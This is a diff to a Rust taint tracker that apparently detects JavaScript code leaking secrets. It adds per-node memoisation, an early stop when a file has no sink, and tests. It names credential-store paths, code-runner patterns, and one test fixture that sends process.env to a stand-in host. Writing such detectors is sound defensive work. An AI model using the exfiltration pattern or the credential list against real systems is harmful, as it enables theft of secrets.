@@ -74,13 +74,21 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
         const_data: HashMap::default(),
         callback_taints: HashMap::default(),
         grew: false,
+        sites: false,
+        paths_seen: HashMap::default(),
+        memo_path: Default::default(),
+        memo_fold: Default::default(),
     };
+    // Another pass only when a taint grew and the file has somewhere to record a flow: without
+    // one, no number of passes finds anything (most big bundles stop after the first).
     for _ in 0..4 {
         t.grew = false;
         t.flows.clear();
         t.runs.clear();
         t.visit_program(program);
-        if !t.grew {
+        #[cfg(test)]
+        PASSES.with(|p| p.set(p.get() + 1));
+        if !t.grew || !t.sites {
             break;
         }
     }
@@ -92,6 +100,12 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
     runs.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
     runs.dedup_by_key(|f| f.off);
     (out, runs)
+}
+
+#[cfg(test)]
+thread_local! {
+    /// Passes of [`flows`] on this thread, for the tests.
+    static PASSES: std::cell::Cell<u32> = const { std::cell::Cell::new(0) };
 }
 
 /// Whether the text of a file can hold a flow at all: a source and a sink both named, or a
@@ -170,6 +184,25 @@ struct Tracker<'b, 's> {
     /// Local functions that call their n-th parameter with a tainted value.
     callback_taints: HashMap<(String, usize), Taint>,
     grew: bool,
+    /// Whether the walk met a place where a flow or a run is recorded (a sink, a code runner
+    /// given code, a `data:` import). Which calls these are depends only on the program and the
+    /// alias map, never on the taints, so a file without one has no flow whatever the taints.
+    sites: bool,
+    /// Declarations whose initialiser named no credential store, with the size of `paths` then:
+    /// `paths` only grows, so while its size is the same the answer is the same.
+    paths_seen: HashMap<usize, usize>,
+    /// The alias map's resolved paths and folded constants of the nodes asked about: both
+    /// depend only on the node and the finished analyser, and each pass asks again.
+    memo_path: std::cell::RefCell<HashMap<NodeKey, Option<String>>>,
+    memo_fold: std::cell::RefCell<HashMap<NodeKey, Option<String>>>,
+}
+
+/// One node of the program being tracked: where it lives in the arena and its span.
+type NodeKey = (usize, u32, u32);
+
+fn node_key(e: &Expression) -> NodeKey {
+    let sp = e.span();
+    (std::ptr::from_ref(e) as usize, sp.start, sp.end)
 }
 
 /// Whether a function body's source decodes data: char-code arithmetic, XOR, base-N digits,
@@ -328,11 +361,11 @@ fn credential_path(s: &str) -> Option<&'static str> {
         ("key4.db", "browser profiles"),
         (".purple/accounts.xml", "saved FTP sessions"),
     ];
+    // A piece inside a longer string only counts in something shaped like a path.
+    let path_like = s.starts_with(['.', '~', '/']) || s.contains('/');
     pieces
         .iter()
-        .find(|(p, _)| {
-            s == *p || s.contains(p) && (s.starts_with(['.', '~', '/']) || s.contains('/'))
-        })
+        .find(|(p, _)| s == *p || path_like && s.contains(p))
         .map(|(_, what)| *what)
 }
 
@@ -482,6 +515,28 @@ fn is_sink(p: &str) -> bool {
 }
 
 impl Tracker<'_, '_> {
+    /// [`Analyzer::path_of`], remembered per node.
+    fn path_of(&self, e: &Expression) -> Option<String> {
+        let k = node_key(e);
+        if let Some(v) = self.memo_path.borrow().get(&k) {
+            return v.clone();
+        }
+        let v = self.an.path_of(e);
+        self.memo_path.borrow_mut().insert(k, v.clone());
+        v
+    }
+
+    /// [`Analyzer::fold_expr`], remembered per node.
+    fn fold_expr(&self, e: &Expression) -> Option<String> {
+        let k = node_key(e);
+        if let Some(v) = self.memo_fold.borrow().get(&k) {
+            return v.clone();
+        }
+        let v = self.an.fold_expr(e);
+        self.memo_fold.borrow_mut().insert(k, v.clone());
+        v
+    }
+
     fn taint_var(&mut self, name: &str, t: Taint) {
         match self.vars.get(name) {
             Some(old) if old.0 >= t.0 => {}
@@ -531,12 +586,21 @@ impl Tracker<'_, '_> {
         }
     }
 
+    /// [`Self::names_credential`] of a declaration's initialiser, remembering a miss.
+    fn names_credential_seen(&mut self, key: usize, init: &Expression) -> Option<String> {
+        let w = self.names_credential(init, 0);
+        if w.is_none() {
+            self.paths_seen.insert(key, self.paths.len());
+        }
+        w
+    }
+
     /// The credential store a path expression names, through variables holding such paths.
     fn names_credential(&self, e: &Expression, depth: u32) -> Option<String> {
         if depth > 12 {
             return None;
         }
-        if let Some(s) = self.an.fold_expr(e)
+        if let Some(s) = self.fold_expr(e)
             && let Some(w) = credential_path(&s)
         {
             return Some(w.to_string());
@@ -589,7 +653,7 @@ impl Tracker<'_, '_> {
         if depth > 12 {
             return None;
         }
-        if let Some(s) = self.an.fold_expr(e)
+        if let Some(s) = self.fold_expr(e)
             && let Some(w) = data_file(&s)
         {
             return Some(w.to_string());
@@ -618,7 +682,7 @@ impl Tracker<'_, '_> {
         match e.without_parentheses() {
             Expression::Identifier(id) => {
                 self.const_data.contains_key(id.name.as_str())
-                    || self.an.fold_expr(e).is_some_and(|s| s.len() >= 16)
+                    || self.fold_expr(e).is_some_and(|s| s.len() >= 16)
             }
             Expression::ArrayExpression(a) => {
                 a.elements.len() >= 8
@@ -759,7 +823,7 @@ impl Tracker<'_, '_> {
             exprs.first().into_iter().copied().collect()
         } else if p == "Reflect.construct" || p == "Reflect.apply" {
             // `Reflect.construct(Function, ["r", code])`, `Reflect.apply(eval, null, [code])`.
-            let target = exprs.first().and_then(|e| self.an.path_of(e));
+            let target = exprs.first().and_then(|e| self.path_of(e));
             if !matches!(target.as_deref(), Some("Function" | "eval")) {
                 return;
             }
@@ -767,7 +831,7 @@ impl Tracker<'_, '_> {
         } else if p.ends_with(".post")
             && exprs
                 .first()
-                .and_then(|e| self.an.fold_expr(e))
+                .and_then(|e| self.fold_expr(e))
                 .is_some_and(|m| m == "Runtime.evaluate" || m == "Runtime.compileScript")
         {
             // The inspector protocol: `session.post('Runtime.evaluate', { expression })`.
@@ -777,7 +841,7 @@ impl Tracker<'_, '_> {
                 self.an
                     .source_of(e.span())
                     .is_some_and(|s| s.contains("node") || s.contains("execPath"))
-                    || self.an.fold_expr(e).is_some_and(|s| s.contains("node"))
+                    || self.fold_expr(e).is_some_and(|s| s.contains("node"))
             })
             && exprs.iter().take(2).any(|e| {
                 self.an
@@ -790,6 +854,7 @@ impl Tracker<'_, '_> {
         } else {
             return;
         };
+        self.sites |= !code.is_empty();
         let t = code
             .into_iter()
             .filter(|e| {
@@ -831,7 +896,7 @@ impl Tracker<'_, '_> {
             }
             Expression::Identifier(id) => self.vars.get(id.name.as_str()).cloned(),
             Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
-                if let Some(p) = self.an.path_of(e) {
+                if let Some(p) = self.path_of(e) {
                     if p == "process.env" {
                         return Some((Source::Secrets, "process.env".into()));
                     }
@@ -877,7 +942,7 @@ impl Tracker<'_, '_> {
                 {
                     return Some(t.clone());
                 }
-                let p = self.an.path_of(&c.callee).unwrap_or_default();
+                let p = self.path_of(&c.callee).unwrap_or_default();
                 let args = || c.arguments.iter().filter_map(|a| a.as_expression());
                 if let Some(t) = self.hidden_code_source(c, &p, depth) {
                     return Some(t);
@@ -893,7 +958,7 @@ impl Tracker<'_, '_> {
                     let first = args().next();
                     // `readFileSync(process.env.AWS_WEB_IDENTITY_TOKEN_FILE)`.
                     if let Some(v) = first
-                        .and_then(|a| self.an.path_of(a))
+                        .and_then(|a| self.path_of(a))
                         .and_then(|p| p.strip_prefix("process.env.").map(str::to_string))
                         && (v.ends_with("TOKEN_FILE") || v.ends_with("CREDENTIALS_FILE"))
                     {
@@ -911,7 +976,7 @@ impl Tracker<'_, '_> {
                 // Any process start (bundlers rename the module: `import_x.execSync`).
                 let method = p.rsplit('.').next().unwrap_or(&p);
                 if (method.starts_with("exec") || method.starts_with("spawn"))
-                    && let Some(cmd) = args().next().and_then(|a| self.an.fold_expr(a))
+                    && let Some(cmd) = args().next().and_then(|a| self.fold_expr(a))
                     && credential_helper(&cmd)
                 {
                     return Some((Source::Secrets, cmd.trim().to_string()));
@@ -926,7 +991,7 @@ impl Tracker<'_, '_> {
                 };
                 if let Some((src, what)) = secret_store_read(
                     callee_text,
-                    args().next().and_then(|a| self.an.fold_expr(a)).as_deref(),
+                    args().next().and_then(|a| self.fold_expr(a)).as_deref(),
                 ) {
                     return Some((src, what.to_string()));
                 }
@@ -1054,11 +1119,13 @@ impl Tracker<'_, '_> {
     fn check_sink(&mut self, callee: &Expression, args: &[Argument], off: u32) {
         // Local function: its parameters take the taint of the arguments.
         if let Expression::Identifier(id) = callee.without_parentheses()
-            && let Some(names) = self.params.get(id.name.as_str()).cloned()
+            && let Some(n_params) = self.params.get(id.name.as_str()).map(Vec::len)
         {
-            for (n, a) in names.iter().zip(args.iter()) {
+            // `taint_var` leaves `params` alone, so each name is looked up only when tainted.
+            for (i, a) in args.iter().take(n_params).enumerate() {
                 if let Some(t) = a.as_expression().and_then(|e| self.taint_of(e, 0)) {
-                    self.taint_var(n, t);
+                    let n = self.params[id.name.as_str()][i].clone();
+                    self.taint_var(&n, t);
                 }
             }
         }
@@ -1075,7 +1142,7 @@ impl Tracker<'_, '_> {
             self.returns.insert(name, t);
             self.grew = true;
         }
-        let p = self.an.path_of(callee);
+        let p = self.path_of(callee);
         // Containers filled with a secret: `out.push(env)`, `Object.assign(o, process.env)`.
         if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
             && matches!(
@@ -1150,23 +1217,22 @@ impl Tracker<'_, '_> {
         // A local function calling its callback parameter with hidden data hands it to every
         // function passed in that place (`remote((src) => m._compile(src))`).
         if let Expression::Identifier(id) = callee.without_parentheses() {
-            if let Some(cur) = self.current.last().cloned()
+            if let Some(cur) = self.current.last()
                 && let Some(idx) = self
                     .params
-                    .get(&cur)
+                    .get(cur)
                     .and_then(|ps| ps.iter().position(|n| n == id.name.as_str()))
                 && let Some(t) = args
                     .iter()
                     .filter_map(|a| a.as_expression())
                     .filter_map(|e| self.taint_of(e, 0))
                     .max_by_key(|t| t.0)
-                && self
-                    .callback_taints
-                    .get(&(cur.clone(), idx))
-                    .is_none_or(|o| o.0 < t.0)
             {
-                self.callback_taints.insert((cur, idx), t);
-                self.grew = true;
+                let key = (cur.clone(), idx);
+                if self.callback_taints.get(&key).is_none_or(|o| o.0 < t.0) {
+                    self.callback_taints.insert(key, t);
+                    self.grew = true;
+                }
             }
             let given: Vec<(usize, Taint)> = self
                 .callback_taints
@@ -1243,6 +1309,7 @@ impl Tracker<'_, '_> {
         {
             return;
         }
+        self.sites = true;
         let taken = if spawn { 2 } else { 4 };
         let t = args
             .iter()
@@ -1280,22 +1347,41 @@ fn param_names(params: &FormalParameters) -> Vec<String> {
     params
         .items
         .iter()
-        .map(|p| match &p.pattern {
-            BindingPattern::BindingIdentifier(id) => id.name.to_string(),
-            BindingPattern::AssignmentPattern(a) => match &a.left {
-                BindingPattern::BindingIdentifier(id) => id.name.to_string(),
-                _ => String::new(),
-            },
-            _ => String::new(),
-        })
+        .map(|p| param_name(p).to_string())
         .collect()
+}
+
+/// A parameter's name (`a`, `a = 1`), empty for a pattern.
+fn param_name<'p>(p: &'p FormalParameter) -> &'p str {
+    match &p.pattern {
+        BindingPattern::BindingIdentifier(id) => id.name.as_str(),
+        BindingPattern::AssignmentPattern(a) => match &a.left {
+            BindingPattern::BindingIdentifier(id) => id.name.as_str(),
+            _ => "",
+        },
+        _ => "",
+    }
+}
+
+/// Records the parameter names of local function `name`, without new strings when a pass
+/// finds them as they already are.
+fn set_params(map: &mut HashMap<String, Vec<String>>, name: &str, params: &FormalParameters) {
+    if let Some(old) = map.get(name)
+        && old.len() == params.items.len()
+        && old
+            .iter()
+            .zip(&params.items)
+            .all(|(o, p)| o == param_name(p))
+    {
+        return;
+    }
+    map.insert(name.to_string(), param_names(params));
 }
 
 impl<'a> Visit<'a> for Tracker<'_, '_> {
     fn visit_function(&mut self, it: &Function<'a>, flags: oxc_syntax::scope::ScopeFlags) {
         if let Some(id) = &it.id {
-            self.params
-                .insert(id.name.to_string(), param_names(&it.params));
+            set_params(&mut self.params, id.name.as_str(), &it.params);
             if let Some(body) = &it.body
                 && !self.decoders.contains_key(id.name.as_str())
             {
@@ -1360,20 +1446,22 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
             if let BindingPattern::BindingIdentifier(id) = &it.id {
                 match init.without_parentheses() {
                     Expression::ArrowFunctionExpression(f) => {
-                        self.params
-                            .insert(id.name.to_string(), param_names(&f.params));
+                        set_params(&mut self.params, id.name.as_str(), &f.params);
                         let dec = self.an.source_of(f.body.span()).is_some_and(decoder_body);
-                        self.decoders.insert(id.name.to_string(), dec);
+                        if self.decoders.get(id.name.as_str()) != Some(&dec) {
+                            self.decoders.insert(id.name.to_string(), dec);
+                        }
                     }
                     Expression::FunctionExpression(f) => {
-                        self.params
-                            .insert(id.name.to_string(), param_names(&f.params));
+                        set_params(&mut self.params, id.name.as_str(), &f.params);
                         let dec = f
                             .body
                             .as_ref()
                             .and_then(|b| self.an.source_of(b.span))
                             .is_some_and(decoder_body);
-                        self.decoders.insert(id.name.to_string(), dec);
+                        if self.decoders.get(id.name.as_str()) != Some(&dec) {
+                            self.decoders.insert(id.name.to_string(), dec);
+                        }
                     }
                     e => {
                         if self.constant_data(e) && !self.const_data.contains_key(id.name.as_str())
@@ -1382,7 +1470,7 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                         }
                         if !self.data_paths.contains_key(id.name.as_str())
                             && !matches!(e, Expression::CallExpression(c)
-                                if self.an.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.") || p == "require"))
+                                if self.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.") || p == "require"))
                             && let Some(w) = self.names_data_file(e, 0)
                         {
                             self.data_paths.insert(id.name.to_string(), w);
@@ -1390,10 +1478,12 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                         }
                     }
                 }
+                let key = std::ptr::from_ref(it) as usize;
                 if !self.paths.contains_key(id.name.as_str())
-                    && let Some(w) = self.names_credential(init, 0)
+                    && self.paths_seen.get(&key) != Some(&self.paths.len())
+                    && let Some(w) = self.names_credential_seen(key, init)
                     && !matches!(init.without_parentheses(), Expression::CallExpression(c)
-                        if self.an.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.")))
+                        if self.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.")))
                 {
                     self.paths.insert(id.name.to_string(), w);
                     self.grew = true;
@@ -1436,12 +1526,14 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
 
     fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
         // `import('data:text/javascript,' + code)`: a module made of the string.
-        if let Some(t) = self.taint_of(&it.source, 0)
+        let inline = self
+            .an
+            .source_of(it.source.span())
+            .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"));
+        self.sites |= inline;
+        if inline
+            && let Some(t) = self.taint_of(&it.source, 0)
             && t.0 <= Source::Host
-            && self
-                .an
-                .source_of(it.source.span())
-                .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"))
         {
             self.runs.push(Flow {
                 source: t.0,
@@ -1466,20 +1558,63 @@ mod tests {
     use crate::js::{Parsed, analyze};
 
     fn flows(src: &str) -> Vec<(Source, String, String)> {
-        let f = match std::thread::scope(|s| {
+        flows_and_passes(src).0
+    }
+
+    /// The flows of a file and how many passes the tracker made.
+    fn flows_and_passes(src: &str) -> (Vec<(Source, String, String)>, u32) {
+        let (f, passes) = std::thread::scope(|s| {
             std::thread::Builder::new()
                 .stack_size(64 << 20)
-                .spawn_scoped(s, || analyze(src, "index.js", 4, 1 << 20))
+                .spawn_scoped(s, || {
+                    super::PASSES.with(|p| p.set(0));
+                    let f = analyze(src, "index.js", 4, 1 << 20);
+                    (f, super::PASSES.with(|p| p.get()))
+                })
                 .expect("thread")
                 .join()
                 .expect("join")
-        }) {
+        });
+        let f = match f {
             Parsed::Ok(f) | Parsed::Failed(_, f) => f,
         };
-        f.flows
+        let flows = f
+            .flows
             .into_iter()
             .map(|f| (f.source, f.what, f.sink))
-            .collect()
+            .collect();
+        (flows, passes)
+    }
+
+    #[test]
+    fn a_taint_found_in_a_later_pass_still_reaches_the_sink() {
+        // The helper is declared below its use: its parameter is tainted in the first pass, the
+        // send inside it only sees that in the second.
+        let src = r#"const https = require("https");
+function send(data) {
+  https.request({ host: "h.example", path: "/" + data }).end();
+}
+const env = process.env;
+send(JSON.stringify(env));"#;
+        let (f, passes) = flows_and_passes(src);
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].0, Source::Secrets);
+        assert!(passes >= 2, "{passes}");
+    }
+
+    #[test]
+    fn a_file_with_no_sink_or_runner_stops_after_one_pass() {
+        // Taints grow (the environment through variables and a helper's parameter) and the
+        // text passes the gate (`fetch`, `process.env`), but nothing could ever be recorded.
+        let src = r#"function keep(data) { const copy = data; return copy; }
+const env = process.env;
+const all = keep(env);
+const fetchMode = "cors";
+module.exports = { all, fetchMode };"#;
+        assert!(super::worth_tracking(src));
+        let (f, passes) = flows_and_passes(src);
+        assert!(f.is_empty(), "{f:?}");
+        assert_eq!(passes, 1);
     }
 
     #[test]
